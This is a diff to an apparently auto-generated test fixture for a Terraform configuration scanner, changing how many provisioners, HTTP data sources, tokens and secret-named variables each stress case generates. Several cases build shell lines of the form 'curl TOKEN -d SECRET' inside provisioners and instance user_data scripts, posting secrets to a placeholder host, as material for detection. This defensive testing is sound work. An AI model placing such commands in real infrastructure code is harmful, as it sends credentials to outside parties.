@@ -1,6 +1,6 @@
-import type { Directory } from "../../../../checks/configuration/configuration.js";
-import { joinFiles, readHcl, readTfvars } from "../../../../checks/configuration/read.js";
-import { json, TOKEN } from "./follow.js";
+import type { Directory } from "../../../checks/configuration/configuration.js";
+import { joinFiles, readHcl, readTfvars } from "../../../checks/configuration/read.js";
+import { json, TOKEN } from "./fuzz/follow.js";
 
 const times = <T>(count: number, one: (index: number) => T): T[] =>
   Array.from({ length: count }, (_, index) => one(index));
@@ -15,14 +15,14 @@ const request = { url: TOKEN, method: "POST", request_body: FORM };
 const requests = (count: number): object => ({ http: named(count, () => request) });
 const answer = (name: string, member: string): string => `\${jsondecode(data.http.${name}.response_body).${member}}`;
 
-/** Configuration with many of one kind, each with something to find: so many, by how many characters stand for one. */
-export const MANY: Readonly<Record<string, readonly [characters: number, of: (count: number) => Directory]>> = {
+/** Configuration with many of one kind, each with something to find, and how many of them take long enough to be measured. */
+export const MANY: Readonly<Record<string, readonly [count: number, of: (count: number) => Directory]>> = {
   "provisioners with a secret": [
-    1_000,
+    500,
     (count) => json({ resource: { null_resource: named(count, (i) => shell(`curl ${TOKEN} -d ${SECRET}${i}`)) } }),
   ],
   "provisioners with a secret, in HCL": [
-    1_000,
+    500,
     (count) =>
       hcl(
         times(
@@ -33,7 +33,7 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       ),
   ],
   "provisioners of one block": [
-    1_000,
+    150,
     (count) =>
       json({
         resource: {
@@ -43,9 +43,9 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
         },
       }),
   ],
-  "requests of data sources": [1_000, (count) => json({ data: requests(count) })],
+  "requests of data sources": [400, (count) => json({ data: requests(count) })],
   "requests whose status is checked": [
-    1_000,
+    300,
     (count) =>
       json({
         data: requests(count),
@@ -53,7 +53,7 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       }),
   ],
   "logins whose token is taken": [
-    1_000,
+    100,
     (count) =>
       json({
         data: {
@@ -67,7 +67,7 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       }),
   ],
   "blocks that use a token": [
-    1_000,
+    300,
     (count) =>
       json({
         data: requests(count),
@@ -75,7 +75,7 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       }),
   ],
   "providers with an alias": [
-    1_000,
+    400,
     (count) =>
       json({
         provider: {
@@ -89,12 +89,12 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       }),
   ],
   "variables with a secret": [
-    200,
+    2_000,
     (count) =>
       json({ variable: Object.fromEntries(times(count, (i) => [`x${i}_client_secret`, { default: "abcdefgh1234" }])) }),
   ],
   "values of variables with a secret": [
-    200,
+    500,
     (count) =>
       joinFiles("/fuzz", [
         readTfvars(times(count, (i) => `x${i}_client_secret = "abcdefgh1234"\n`).join(""), "/fuzz/a.tfvars"),
@@ -102,11 +102,11 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       ]),
   ],
   "locals with a secret": [
-    200,
+    1_000,
     (count) => json({ locals: Object.fromEntries(times(count, (i) => [`x${i}_client_secret`, "abcdefgh1234"])) }),
   ],
   "modules that are not there": [
-    500,
+    800,
     (count) =>
       json({
         module: named(count, (i) => ({ source: "x/y", client_secret: `\${var.x${i}}` })),
@@ -114,11 +114,11 @@ export const MANY: Readonly<Record<string, readonly [characters: number, of: (co
       }),
   ],
   "members of a list": [
-    100,
+    5_000,
     (count) => json({ resource: { a: { x: { list: times(count, (i) => ({ client_secret: `abcdefgh1234${i}` })) } } } }),
   ],
   "scripts of instances": [
-    1_000,
+    300,
     (count) =>
       json({
         resource: { aws_instance: named(count, (i) => ({ user_data: `#!/bin/sh\ncurl ${TOKEN} -d ${SECRET}${i}` })) },
